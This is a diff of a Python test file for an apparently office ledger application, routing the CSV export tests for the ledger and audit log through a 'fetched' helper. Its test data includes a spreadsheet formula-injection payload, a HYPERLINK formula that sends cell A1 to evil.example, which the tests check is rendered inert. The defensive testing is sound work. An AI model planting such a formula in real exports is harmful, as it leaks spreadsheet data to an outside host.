@@ -21,6 +21,7 @@ from office.staffing import services as staffing
 from office.waivers import ledger
 from tests.conftest import log_in
 from tests.factories import NOW, draw, make_person, make_resource, make_user, make_waiver, stay
+from tests.jobs import fetched
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 
@@ -119,7 +120,7 @@ def test_the_ledger_export_holds_no_formula_and_keeps_negative_quantities(client
     session.commit()
     log_in(client, admin)
 
-    header, *entries = rows(client.get("/ledger/export.csv"))
+    header, *entries = rows(fetched(client, "/ledger/export.csv"))
 
     by_column = [dict(zip(header, row, strict=True)) for row in entries]
     reversal = next(row for row in by_column if row["reverses_id"])
@@ -136,7 +137,7 @@ def test_a_formula_typed_as_the_login_email_is_inert_in_the_audit_export(client,
     assert stranger.post("/login", data={"email": typed, "password": "a-wrong-one"}).status_code
     log_in(client, admin)
 
-    table = rows(client.get("/audit/export.csv"))
+    table = rows(fetched(client, "/audit/export.csv"))
 
     assert any(cell == "'" + typed for cell in cells(table))
     assert not any(computes(cell) for cell in cells(table))
